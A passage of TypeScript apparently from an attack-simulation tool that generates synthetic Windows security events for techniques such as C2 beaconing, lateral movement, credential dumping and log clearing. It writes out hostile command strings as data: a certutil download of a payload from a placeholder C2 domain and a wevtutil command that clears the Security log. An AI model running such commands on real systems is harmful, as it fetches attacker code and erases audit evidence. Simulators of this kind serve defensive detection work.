    `${SYSTEM32}\\certutil.exe`,
    `certutil.exe -urlcache -split -f https://${a.actors.c2Domain}/d/update.b64 ${dest}.b64`,
  );
  B.dnsQuery(c, a.t + 200, cert, a.actors.c2Domain, [a.actors.c2Ip]);
  B.connect(c, a.t + 300, cert, {
    dstIp: a.actors.c2Ip,
    dstPort: 443,
    dstHost: a.actors.c2Domain,
    bytesOut: 700,
    bytesIn: 480000,
  });
  B.fileCreate(c, a.t + 1500, cert, `${dest}.b64`);
  const dec = run(a, a.t + 5000, `${SYSTEM32}\\certutil.exe`, `certutil.exe -decode ${dest}.b64 ${dest}`);
  B.fileCreate(c, a.t + 5500, dec, dest);
  return a.t + 6000;
};

const clearLogs: Action = (a) => {
  const c = ctx(a, a.state.current);
  const sh = operatorShell(a, a.t - 100);
  run(a, a.t, `${SYSTEM32}\\wevtutil.exe`, 'wevtutil.exe cl Security');
  B.logCleared(c, a.t + 300, sh.user.sid === B.SYSTEM_ACCOUNT.sid ? adminAcct(a) : sh.user, sh.logonId);
  return a.t + 1000;
};

export const ACTIONS: Record<string, Action> = {
  phish_open: phishOpen,
  c2_beacon: c2Beacon,
  discovery,
  stage_files: stageFiles,
  compress,
  exfil_cloud: exfilCloud,
  exfil_c2: exfilC2,
  dns_tunnel: dnsTunnel,
  lateral_psexec: lateralPsexec,
  lateral_wmi: lateralWmi,
  lateral_winrm: lateralWinrm,
  lateral_rdp: lateralRdp,
  pass_the_hash: passTheHash,
  uac_bypass: uacBypass,
  service_create: serviceCreate,
  token_theft: tokenTheft,
  lsass_dump: lsassDump,
  kerberoast,
  brute_force: bruteForce,
  password_spray: passwordSpray,
  run_key: runKey,
  scheduled_task: scheduledTask,
  ingress_tool: ingressTool,
  clear_logs: clearLogs,
};
